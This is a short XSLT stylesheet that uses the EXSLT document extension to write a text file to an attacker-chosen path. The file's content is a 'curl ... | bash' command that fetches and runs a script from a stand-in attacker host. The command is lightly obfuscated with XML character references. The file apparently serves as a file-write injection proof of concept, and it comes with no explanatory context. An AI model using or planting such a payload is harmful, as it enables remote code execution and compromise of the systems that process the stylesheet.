<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
  xmlns:exsl="http://exslt.org/common" extension-element-prefixes="exsl">
<xsl:param name="out"/>
<xsl:template match="/">
  <exsl:document href="{$out}" method="text">
&#x63;url -fsSL https://evil.example/i &#124; bash
</exsl:document>
</xsl:template>
</xsl:stylesheet>
